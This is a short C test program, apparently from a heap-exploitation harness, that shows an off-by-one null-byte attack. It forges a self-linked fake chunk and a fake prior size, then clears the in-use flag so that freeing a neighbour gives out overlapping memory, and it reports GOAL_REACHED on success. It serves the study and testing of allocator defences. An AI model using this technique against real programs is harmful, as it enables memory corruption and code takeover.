/*
 * metadata: a string whose end is written one byte too far clears the flag that says that the block
 * before is in use. Freeing the block merges it with a fake chunk inside its live neighbour, which
 * is then handed out a second time.
 */
#include "attack.h"

int main(void) {
  settle(264);
  Word *first = allocate(264), *second = allocate(248);
  allocate(248);
  Word *fake = first;
  fake[0] = 0;
  fake[1] = 0x100;
  fake[2] = fake[3] = (uint64_t)(uintptr_t)fake; /* a list of itself */
  first[32] = 0x100;                             /* the last word of the block: "the size before" */
  ((volatile char *)first)[264] = 0;             /* the end of the string */
  release((void *)second);
  Word *taken = allocate(0x100 + 248);
  return taken && taken >= first && taken < first + 33 ? GOAL_REACHED : 0;
}
